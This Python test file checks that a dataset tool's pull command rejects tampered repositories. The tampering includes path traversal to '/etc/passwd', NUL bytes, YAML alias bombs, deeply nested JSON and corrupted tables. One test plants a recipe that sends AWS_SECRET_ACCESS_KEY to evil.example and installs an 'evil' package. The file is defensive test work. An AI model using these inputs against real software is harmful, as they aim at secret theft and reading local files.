"""A repository may be anybody's: what is wrong with it is said in a sentence, nothing is half-written, and nothing of the reader's is read or sent."""

from __future__ import annotations

import hashlib
import io
import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml

from dprm_data.core.errors import DprmError
from dprm_data.publish import pull as pull_module
from dprm_data.publish.hub import Head, read_marker
from dprm_data.publish.pull import pull
from dprm_data.runs.folder import RunFolder
from dprm_data.runs.run import Run
from tests.helpers import dprm
from tests.publish.conftest import finished, hub_environment  # noqa: F401 - a fixture
from tests.servers.hub import Hub

REPO = "acme/prefs"
SECRET = "the reader's own secret"
Files = dict[str, bytes]


@pytest.fixture(scope="module")
def published(finished: Path, tmp_path_factory: pytest.TempPathFactory) -> Files:  # noqa: F811
    """The files of an honest repository."""
    folder = tmp_path_factory.mktemp("publisher")
    shutil.copytree(finished, folder / "run", ignore=shutil.ignore_patterns("*.lock", ".lock"))
    with Hub() as hub:
        done = dprm(
            "publish", "run", "--repo", REPO, "--license", "mit", cwd=folder, **hub_environment(hub, folder / "hf")
        )
        assert done.returncode == 0, done.stderr
        return dict(hub.repos[REPO].files)


Serve = Callable[[Files], None]


@pytest.fixture
def serve(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Serve:
    """Puts files in place of what the Hub's client would have fetched, with a marker that has their hashes."""
    snapshot = tmp_path / "hf"

    class Client:
        def snapshot_download(self, *_: object, **__: object) -> str:
            return str(snapshot)

    def served(files: Files) -> None:
        marker = files["dprm.json"]
        try:
            content = json.loads(marker)
            for path, names in content["files"].items():
                if path in files and "sha256" in names:
                    names["sha256"] = hashlib.sha256(files[path]).hexdigest()
            marker = json.dumps(content).encode()
        except (ValueError, KeyError, TypeError, AttributeError, RecursionError):
            pass
        for path, data in files.items():
            (snapshot / path).parent.mkdir(parents=True, exist_ok=True)
            (snapshot / path).write_bytes(data)
        (snapshot / "dprm.json").write_bytes(marker)
        head = Head("c0ffee", marker=read_marker(snapshot / "dprm.json"))
        monkeypatch.setattr(pull_module, "connect", lambda **_: Client())
        monkeypatch.setattr(pull_module, "read_head", lambda *_: head)

    return served


def the(files: Files, config: str) -> str:
    return next(path for path in files if path.startswith(f"data/{config}/"))


def table(files: Files, config: str) -> pa.Table:
    return pq.read_table(io.BytesIO(files[the(files, config)]))


def replaced(files: Files, config: str, content: pa.Table) -> Files:
    sink = io.BytesIO()
    pq.write_table(content, sink)
    return files | {the(files, config): sink.getvalue()}


def column(name: str, change: Callable[[list[Any]], list[Any]], config: str, kind: pa.DataType | None = None) -> Any:
    """The files with a column of a config changed."""

    def changed(files: Files) -> Files:
        found = table(files, config)
        values = pa.array(change(found[name].to_pylist()), kind or found.schema.field(name).type)
        return replaced(files, config, found.set_column(found.column_names.index(name), name, values))

    return changed


def as_json(value: str) -> Callable[[list[Any]], list[Any]]:
    """Metadata as JSON, as older versions published them; the first is `value`."""
    return lambda values: [value, *["{}"] * (len(values) - 1)]


NESTED = pa.struct([("a", pa.int64())])
for _ in range(150):
    NESTED = pa.struct([("a", NESTED)])


def nested(values: list[Any]) -> list[Any]:
    value: Any = 1
    for _ in range(151):
        value = {"a": value}
    return [value] * len(values)


def text(name: str, change: Callable[[str], str | None]) -> Any:
    """The files with one of the config run's texts changed, or without it."""

    def changed(files: Files) -> Files:
        found = table(files, "run").to_pylist()
        for row in found:
            if row["name"] == name:
                row["content"] = change(row["content"])
        return replaced(files, "run", pa.Table.from_pylist([row for row in found if row["content"] is not None]))

    return changed


def recipe(**changes: Any) -> Any:
    return text("recipe.yaml", lambda content: yaml.safe_dump(yaml.safe_load(content) | changes))


def provider(**changes: Any) -> Any:
    def changed(content: str) -> str:
        found = yaml.safe_load(content)
        return yaml.safe_dump(found | {"provider": found["provider"] | changes})

    return text("recipe.yaml", changed)


def manifest(**changes: Any) -> Any:
    return text("manifest.json", lambda content: json.dumps(json.loads(content) | changes))


def marker(change: Callable[[dict[str, Any]], Any]) -> Any:
    return lambda files: files | {"dprm.json": json.dumps(change(json.loads(files["dprm.json"]))).encode()}


def listing(path: str) -> Any:
    """A marker that lists one file more."""
    return marker(lambda content: content | {"files": content["files"] | {path: {"sha256": "0" * 64, "git": "0" * 40}}})


def first(value: Any) -> Callable[[list[Any]], list[Any]]:
    return lambda values: [value, *values[1:]]


def wide(files: Files) -> Files:
    found = table(files, "personas")
    extra = {f"c{n}": pa.nulls(found.num_rows) for n in range(2_000)}
    return replaced(files, "annotations", pa.table(extra))


DEEP = '{"a":' * 900 + "1" + "}" * 900
FAULTS: dict[str, tuple[Callable[[Files], Files], str]] = {
    "marker: a list": (lambda files: files | {"dprm.json": b"[]"}, "not published by dprm"),
    "marker: deep": (lambda files: files | {"dprm.json": b"[" * 100_000}, "not published by dprm"),
    "marker: not UTF-8": (lambda files: files | {"dprm.json": b"\xff\xfe"}, "not published by dprm"),
    "marker: infinite version": (marker(lambda content: content | {"version": float("inf")}), "not published by dprm"),
    "marker: files a list": (marker(lambda content: content | {"files": [1]}), "not published by dprm"),
    "marker: no hashes": (
        marker(lambda content: content | {"files": {path: {} for path in content["files"]}}),
        "has no sha256",
    ),
    "marker: ..": (listing("data/run/../../../../secret.parquet"), "not the name of a data file"),
    "marker: NUL": (listing("data/run/a\0-00000-of-00001.parquet"), "not the name of a data file"),
    "marker: 300 characters": (listing(f"data/run/{'a' * 300}-00000-of-00001.parquet"), "not the name of a data file"),
    "marker: a file that is missing": (listing("data/run/other-00000-of-00001.parquet"), "missing in the dataset"),
    "recipe: missing": (text("recipe.yaml", lambda _: None), "has no recipe.yaml"),
    "recipe: a list": (text("recipe.yaml", lambda _: "[]"), "recipe.yaml: a recipe is a mapping"),
    "recipe: aliases": (
        text(
            "recipe.yaml",
            lambda _: (
                "a: &a [x]\n"
                + "".join(f"{c}: &{c} [{f'*{p},' * 9}]\n" for p, c in zip("abcdefghi", "bcdefghij", strict=True))
            ),
        ),
        "recipe.yaml: aliases",
    ),
    "recipe: a number for a name": (recipe(name=5), "recipe.yaml: name"),
    "recipe: provider a list": (recipe(provider=[]), "recipe.yaml: provider"),
    "recipe: labels absolute": (recipe(labels="/etc/passwd"), "labels: '/etc/passwd' names a file"),
    "recipe: labels up": (recipe(labels="../secret.yaml"), "labels: '../secret.yaml' names a file"),
    "recipe: labels beside the reader": (recipe(labels="secret.yaml"), "labels: 'secret.yaml' names a file"),
    "recipe: labels NUL": (recipe(labels="a\0b"), "labels"),
    "recipe: labels 300 characters": (recipe(labels="a" * 300), "labels"),
    "recipe: labels garbage": (recipe(labels={"name": "x", "labels": 5}), "labels"),
    "recipe: a million labels": (recipe(labels=1_000_000), "2 to 1000 levels"),
    "recipe: panel absolute": (recipe(panel="/etc/passwd"), "panel.use: '/etc/passwd' names a file"),
    "recipe: panel of a source": (
        recipe(panel={"use": {"source": "raked", "panel": "paper", "margins": "/etc/passwd"}}),
        "not a source of them",
    ),
    "recipe: panel garbage": (recipe(panel={"use": {"name": "x", "personas": [1]}}), "personas"),
    "recipe: prompt absolute": (recipe(prompt="/etc/passwd"), "prompt: '/etc/passwd' names a file"),
    "recipe: prompt up": (recipe(prompt="prompts/../../secret.jinja"), "names a file"),
    "recipe: dataset up": (recipe(source={"dataset": "../secret"}), "source.dataset: '../secret' is not the name"),
    "recipe: dataset absolute": (recipe(source={"dataset": "/etc"}), "source.dataset"),
    "manifest: missing": (text("manifest.json", lambda _: None), "has no manifest.json"),
    "manifest: a list": (text("manifest.json", lambda _: "[]"), "manifest.json: a JSON object was expected"),
    "manifest: deep": (text("manifest.json", lambda _: DEEP), "manifest.json: values are nested"),
    "manifest: deeper": (text("manifest.json", lambda _: "[" * 100_000), "manifest.json: not JSON"),
    "manifest: half a pair": (text("manifest.json", lambda _: '{"a": "\\ud800"}'), "manifest.json: not JSON"),
    "manifest: a huge number": (
        text("manifest.json", lambda _: '{"a": ' + "9" * 5000 + "}"),
        "manifest.json: not JSON",
    ),
    "manifest: no fit": (manifest(fit=None), "manifest.json: fit"),
    "manifest: fit a list": (manifest(fit=[]), "manifest.json: fit"),
    "manifest: settings": (manifest(fit={"family": "beta", "settings": []}), "manifest.json: fit.settings"),
    "manifest: prior": (manifest(prior={"format": 1}), "not a prior"),
    "manifest: label space": (manifest(label_space={"labels": 7}), "label"),
    "manifest: versions": (manifest(versions=[1]), "manifest.json: versions"),
    "manifest: last_annotate": (manifest(last_annotate=7), "manifest.json: last_annotate"),
    "manifest: review": (manifest(review={"people": "many"}), "manifest.json: review"),
    "manifest: calibration": (manifest(calibration={"applied": True}), "manifest.json: calibration"),
    "table: empty file": (lambda files: files | {the(files, "default"): b""}, "not a table of default"),
    "table: truncated": (
        lambda files: files | {the(files, "default"): files[the(files, "default")][:-300]},
        "not a table of default",
    ),
    "table: zeros": (lambda files: files | {the(files, "annotations"): bytes(5000)}, "not a table of annotations"),
    "table: other columns": (wide, "no column"),
    "table: other types": (
        column("votes", lambda values: ["x"] * len(values), "default", pa.string()),
        "not a table of default",
    ),
    "table: text for a number": (
        column("weight", lambda values: ["much"] * len(values), "annotations", pa.string()),
        "not a table of annotations",
    ),
    "table: no id": (column("item_id", first(None), "default"), "item_id: a value is missing"),
    "table: one id twice": (column("item_id", lambda values: [values[1], *values[1:]], "default"), "is there twice"),
    "table: no row": (column("row", first(None), "default"), "row: a value is missing"),
    "table: no turns": (column("completion", first(None), "default"), "completion: a value is missing"),
    "table: a turn without text": (
        column("prompt", first([{"role": "user", "content": None}]), "default"),
        "prompt: a value is missing",
    ),
    "table: too many numbers": (column("votes", first([1.0] * 7), "default"), "votes: there are 6 labels, and 7"),
    "table: not a number": (column("label_distribution", first([float("nan")] * 6), "default"), "not finite"),
    "table: infinite reward": (column("expected_reward", first(float("inf")), "default"), "expected_reward"),
    "table: deep metadata": (column("metadata", as_json(DEEP), "default", pa.string()), "metadata: not a JSON"),
    "table: metadata a list": (
        column("metadata", as_json("[]"), "default", pa.string()),
        "metadata: not a JSON object",
    ),
    "table: deep typed metadata": (column("metadata", nested, "default", NESTED), "not a table of default"),
    "table: attributes": (column("attributes", first("{"), "personas"), "attributes: not JSON"),
    "table: label too large": (column("label", first(6), "annotations"), "label: 6 is not one of the 6 labels"),
    "table: label negative": (column("label", first(-1), "annotations"), "label: -1 is not"),
    "table: an item of nowhere": (column("item_id", first("nowhere"), "annotations"), "'nowhere' is no item"),
    "table: a weight of NaN": (column("weight", first(float("nan")), "annotations"), "weight"),
    "table: pairs": (column("chosen_distribution", first([1.0]), "preferences"), "there are 6 labels, and 1"),
}


@pytest.mark.parametrize(("change", "says"), FAULTS.values(), ids=FAULTS.keys())
@pytest.mark.slow
def test_a_fault_is_a_sentence_and_leaves_nothing(
    change: Callable[[Files], Files],
    says: str,
    serve: Serve,
    published: Files,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    (tmp_path / "secret.yaml").write_text(SECRET)
    monkeypatch.chdir(tmp_path)
    serve(change(published))
    before = sorted(path.name for path in tmp_path.iterdir() if path.name != "hf")
    with pytest.raises(DprmError) as refused:
        pull(REPO, Path("pulled"))
    assert says in str(refused.value)
    assert "is not whole" not in str(refused.value), "a check names the fault"
    assert len(str(refused.value)) < 1000
    assert sorted(path.name for path in tmp_path.iterdir() if path.name != "hf") == before


def test_nothing_pulled_names_a_host_for_secrets_a_variable_or_a_file(
    serve: Serve, published: Files, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PGPASSWORD", SECRET)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    endpoints = [{"base_url": "http://e.example", "api_key_env": name} for name in ("AWS_SECRET_ACCESS_KEY", "B")]
    hostile = recipe(
        ledger="postgresql://u:${AWS_SECRET_ACCESS_KEY}@evil.example/db",
        output="/tmp/elsewhere",
        engine="ray",
        ray={"address": "evil.example:6379", "runtime_env": {"pip": ["evil"]}},
        source={"path": "/home/reader/private.jsonl"},
        provider={"name": "openai", "model": "/home/reader/model.gguf", "endpoints": endpoints},
    )
    serve(hostile(published))
    folder = pull(REPO, tmp_path / "pulled")
    written = folder.recipe_file.read_text()
    for word in ("evil", "AWS", "/home", "elsewhere", "ray"):
        assert word not in written
    run = Run.open(folder.path)
    assert run.ledger_address.path == folder.path / "ledger.sqlite"
    assert run.is_pulled()
    assert run.recipe.source is not None
    assert run.recipe.source.path == "private.jsonl"


def test_an_honest_repository_is_pulled_and_its_card_names_the_folder(
    serve: Serve, published: Files, tmp_path: Path
) -> None:
    serve(published)
    folder = pull(REPO, tmp_path / "pulled")
    assert f'load_dataset("{tmp_path / "pulled"}"' in folder.card_file.read_text()
    assert ".pulling" not in folder.card_file.read_text()
    for command in ("show", "fit", "report"):
        done = dprm(command, "pulled", cwd=tmp_path)
        assert done.returncode == 0, done.stderr


@pytest.mark.parametrize("step", ["_unpack", "_write_card", "rmdir", "rename"])
def test_killed_anywhere_the_next_pull_goes_on(
    step: str, serve: Serve, published: Files, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`Killed` is no Exception; what `finally` would tidy up is kept by a `rmtree` that does nothing."""

    class Killed(BaseException):
        pass

    def killed(*_: object, **__: object) -> None:
        raise Killed

    serve(published)
    to = tmp_path / "pulled"
    to.mkdir()
    with monkeypatch.context() as patched, pytest.raises(Killed):
        patched.setattr(pull_module.shutil, "rmtree", lambda *_, **__: None)
        if step in ("rmdir", "rename"):
            patched.setattr(Path, step, killed if step == "rmdir" else _killed_for(to, killed))
        else:
            original = getattr(pull_module, step)
            patched.setattr(pull_module, step, lambda *a, **k: (original(*a, **k), killed()))
        pull(REPO, to)
    folder = pull(REPO, to)
    assert folder.card_file.is_file()
    assert RunFolder(to).read_manifest()["pulled"]["repo"] == REPO
    assert [path.name for path in tmp_path.iterdir() if path.name.endswith(".pulling")] == []


def _killed_for(to: Path, killed: Callable[[], None]) -> Callable[..., Path]:
    rename = Path.rename

    def renamed(self: Path, target: Path) -> Path:
        if Path(target) == to:
            killed()
        return rename(self, target)

    return renamed


@pytest.mark.parametrize(
    ("changes", "says"),
    [
        ({"elicitation": "of_an_extension"}, "there is no elicitation 'of_an_extension'"),
        ({"fit": {"family": "of_an_extension"}}, "'of_an_extension'"),
        ({"fit": {"smoothing": {"kind": "of_an_extension"}}}, "'of_an_extension'"),
    ],
)
@pytest.mark.slow
def test_a_run_of_an_extension_that_is_not_installed_opens(
    changes: dict[str, Any],
    says: str,
    finished: Path,  # noqa: F811
    tmp_path: Path,
) -> None:
    run = Path(shutil.copytree(finished, tmp_path / "run", ignore=shutil.ignore_patterns("*.lock", ".lock")))
    content = yaml.safe_load((run / "recipe.yaml").read_text())
    (run / "recipe.yaml").write_text(yaml.safe_dump(content | changes))
    shown = dprm("show", "run", cwd=tmp_path)
    assert shown.returncode == 0, shown.stderr
    fitted = dprm("ratings", "fit", "run", cwd=tmp_path)
    assert fitted.returncode == 2
    assert says in fitted.stderr
    assert "Traceback" not in fitted.stderr + dprm("report", "run", cwd=tmp_path).stderr
